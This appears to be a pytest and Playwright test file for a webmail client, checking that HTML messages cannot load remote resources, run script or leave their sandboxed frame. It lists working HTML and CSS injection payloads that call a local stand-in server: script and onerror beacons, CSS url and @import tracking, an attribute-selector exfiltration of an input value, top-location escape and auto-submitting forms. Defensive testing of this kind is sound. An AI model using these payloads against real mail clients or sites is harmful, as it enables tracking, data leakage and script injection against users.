"""HTML mail that tries to get out of its frame, or to tell somebody that it is read: inert."""

from __future__ import annotations

import base64
import smtplib
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, expect

from bindpost.testing import Serving

from .conftest import OpenPage, Send
from .listening import Counter

# Each reaches a server as soon as it is shown, where nothing holds it.
ATTACKS = {
    "script": "<script>new Image().src = '{}/x'</script>",
    "module": "<script type=module src='{}/x.mjs'></script>",
    "handler": "<img src=data:, onerror=\"new Image().src = '{}/x'\">",
    "svg script": "<svg onload=\"new Image().src = '{}/x'\"></svg>",
    "image": "<img src='{}/x.png'>",
    "srcset": "<img srcset='{}/x.png 1x'>",
    "background": "<table background='{}/x.png'><tr><td>x</table>",
    "svg image": "<svg><image href='{}/x.png' width=9 height=9 /></svg>",
    "input image": "<input type=image src='{}/x.png'>",
    "poster": "<video poster='{}/x.png' width=9 height=9></video>",
    "audio": "<audio src='{}/x.ogg' preload=auto></audio>",
    "style url": "<style>b {{ background: url({}/x) }}</style><b>x</b>",
    "style import": "<style>@import '{}/x.css';</style>",
    "style font": (
        "<style>@font-face {{ font-family: f; src: url({}/x) }} b {{ font-family: f }}</style>"
        "<b>x</b>"
    ),
    "style exfiltration": (
        "<style>input[value^=s] {{ background: url({}/s) }}</style><input value=secret>"
    ),
    "style sheet": "<link rel=stylesheet href='{}/x.css'>",
    "style sheet in odd spelling": "<LiNk/rel=stylesheet\nhref={}/x.css>",
    "preload": "<link rel=preload as=image href='{}/x.png'>",
    "base": "<base href='{}/'><img src=x.png>",
    "refresh": "<meta http-equiv=refresh content='0;url={}/x'>",
    "frame": "<iframe src='{}/x'></iframe>",
    "frame of a document": "<iframe srcdoc=\"<img src='{}/x'>\"></iframe>",
    "object": "<object data='{}/x'></object>",
    "embed": "<embed src='{}/x'>",
    "form": "<form action='{}/x'><input name=a></form><script>document.forms[0].submit()</script>",
    "escape": "<script>top.location = '{}/x'</script>",
}


@pytest.fixture
def outside() -> Iterator[Counter]:
    """Give a server that nobody may come to."""
    counter = Counter()
    yield counter
    counter.close()


@pytest.fixture(scope="module")
def attacked(browser: Browser, serving: Serving) -> Iterator[dict[str, Counter]]:
    """
    Show a mail of each attack in the inbox; give the servers that it would like to reach, by name.

    Afterwards each is shown without our rules, and gets through: the proof that it works here, and
    the time that it takes.
    """
    outside = {name: Counter() for name in ATTACKS}
    control = {name: Counter() for name in ATTACKS}
    page = browser.new_page()
    with smtplib.SMTP(*serving.smtp) as client:
        for name, attack in ATTACKS.items():
            head = f"Subject: {name}\r\nContent-Type: text/html\r\n\r\n"
            text = f"{head}<p>{name}</p>{attack.format(outside[name].url)}\r\n"
            client.sendmail("a@example.test", ["b@example.test"], text.encode())
    page.goto(serving.ready["bindpost"]["web"])
    for message in serving.client.messages(limit=len(ATTACKS)):
        page.locator(f"#m-{message.id} a").click()
        shown = page.frame_locator("iframe.mail").locator("p")
        expect(shown).to_have_text(message.fields.subject)
        loaded(page)
        assert page.url.endswith(message.id), "the page was led away"
    site = Counter()
    for number, (name, attack) in enumerate(ATTACKS.items()):
        site.pages[f"/{number}"] = f"<p>{name}</p>{attack.format(control[name].url)}"
    alone = list(ATTACKS).index("escape")  # it takes the whole tab
    frames = [f"<iframe src='{path}'></iframe>" for path in site.pages if path != f"/{alone}"]
    site.pages["/"] = "".join(frames)
    page.goto(site.url, wait_until="commit")
    browser.new_page().goto(f"{site.url}/{alone}", wait_until="commit")
    for name, counter in control.items():
        counter.wait_reached(name)
    yield outside
    page.close()
    for counter in (site, *outside.values(), *control.values()):
        counter.close()


def show(page: Page, url: str) -> None:
    """Open the newest message, and wait until its HTML is there."""
    page.goto(url)
    page.locator(".row a").first.click()
    loaded(page)


def loaded(page: Page) -> None:
    """Return when the message's frame has loaded."""
    frame = page.locator("iframe.mail").element_handle().content_frame()
    assert frame is not None
    frame.wait_for_load_state("load")


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_reaches_nobody(name: str, attacked: dict[str, Counter]) -> None:
    """What gets through from a page without our rules doesn't even connect from the inbox."""
    assert (attacked[name].connections, attacked[name].requests) == (0, [])


@pytest.mark.parametrize(
    "element",
    [
        "<form action='{}/x'><button id=go>go</button></form>",
        "<form action='{}/x' target=_blank method=post><button id=go>go</button></form>",
        "<form><button id=go formaction='{}/x' formtarget=_top>go</button></form>",
        "<a id=go href=\"javascript:new Image().src='{}/x'\">go</a>",
        "<a id=go href='data:text/html,<img src={}/x>' target=_self>go</a>",
    ],
)
def test_what_is_clicked_reaches_nobody(
    element: str, url: str, send: Send, open_page: OpenPage, outside: Counter
) -> None:
    """Forms and script links do nothing, even when somebody clicks them."""
    send(html=element.format(outside.url))
    page = open_page()
    show(page, url)

    page.frame_locator("iframe.mail").locator("#go").click()
    page.locator("[data-show=text]").click()
    expect(page.locator(".show-text")).to_be_visible()

    assert (outside.connections, outside.requests) == (0, [])
    assert page.url.startswith(url)


@pytest.mark.parametrize(
    "attributes", ["", "target=_top", "target=_parent", "target=_self", "target=x rel=opener"]
)
def test_a_link_opens_a_tab_that_knows_nothing(
    attributes: str, url: str, send: Send, open_page: OpenPage, outside: Counter
) -> None:
    """A clicked link opens a new tab, without an opener and a referrer; the inbox stays."""
    link = f"<a {attributes} referrerpolicy=unsafe-url href='{outside.url}/x'>go</a>"
    send(html=f"<!doctype html><base target=_top>{link}")
    page = open_page()
    show(page, url)
    before = page.url

    with page.context.expect_page() as opened:
        page.frame_locator("iframe.mail").locator("a").click()
    tab = opened.value
    tab.wait_for_url(f"{outside.url}/x")

    assert tab.evaluate("window.opener") is None
    assert tab.evaluate("document.referrer") == ""
    assert "\nreferer:" not in outside.requests[0].lower()
    assert page.url == before


def test_remote_images_come_when_asked_for(
    url: str, send: Send, open_page: OpenPage, outside: Counter
) -> None:
    """The button loads the images of this message, and nothing else of it; without a referrer."""
    send(
        html=f"<img src='{outside.url}/picture.gif' referrerpolicy=unsafe-url>"
        f"<style>@import '{outside.url}/x.css'</style><script src='{outside.url}/x.js'></script>"
    )
    page = open_page()
    show(page, url)
    assert outside.connections == 0

    page.get_by_text("Load remote images").click()
    expect(page.get_by_text("Remote images are loaded")).to_be_visible()
    loaded(page)

    assert [line.split()[1] for line in outside.requests] == ["/picture.gif"]
    assert "\nreferer:" not in outside.requests[0].lower()


def test_no_mail_can_ask_for_them_itself(
    url: str, send: Send, open_page: OpenPage, outside: Counter
) -> None:
    """A link of a mail to its own address with some `remote` doesn't load its images."""
    picture = f"<img src='{outside.url}/x.gif'>"
    send(html=f"{picture}<a href='html?remote=1' target=_self>go</a>")
    page = open_page()
    show(page, url)

    with page.context.expect_page() as opened:
        page.frame_locator("iframe.mail").locator("a").click()
    opened.value.wait_for_url("**/html?remote=1")
    opened.value.wait_for_load_state("load")

    assert outside.connections == 0


def test_a_mail_asks_nothing_of_this_server(url: str, send: Send, open_page: OpenPage) -> None:
    """Even with remote images, no picture of a mail makes bindpost do or tell anything."""
    send(subject="Second")
    send(html=f"<img src='{url}/view/latest'><img src='/api/v1/message/latest'>")
    page = open_page()
    show(page, url)
    page.locator("[data-do=unread-this]").click()
    expect(page.locator("#unread .number")).to_have_text("2")

    page.get_by_text("Load remote images").click()
    expect(page.get_by_text("Remote images are loaded")).to_be_visible()
    loaded(page)
    page.locator("[data-do=unread-this]").click()
    expect(page.locator("#unread .number")).to_have_text("2")

    sizes = page.frames[1].locator("img").evaluate_all("all => all.map(one => one.naturalWidth)")
    assert sizes == [0, 0]


def test_pictures_of_the_mail_itself_are_shown(url: str, send: Send, open_page: OpenPage) -> None:
    """A picture that the HTML names by its Content-ID is there."""
    picture = base64.b64encode(Counter.PICTURE).decode()
    send(
        raw=(
            "Subject: Picture\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
            '--b\r\nContent-Type: text/html\r\n\r\n<img src="cid:one%40x"><img src="CID:two">\r\n'
            "--b\r\nContent-Type: image/gif\r\nContent-ID: <one@x>\r\n"
            f"Content-Transfer-Encoding: base64\r\n\r\n{picture}\r\n--b--\r\n"
        ).encode()
    )
    page = open_page()
    show(page, url)

    images = page.frame_locator("iframe.mail").locator("img")
    assert images.evaluate_all("all => all.map(one => one.naturalWidth)") == [1, 0]
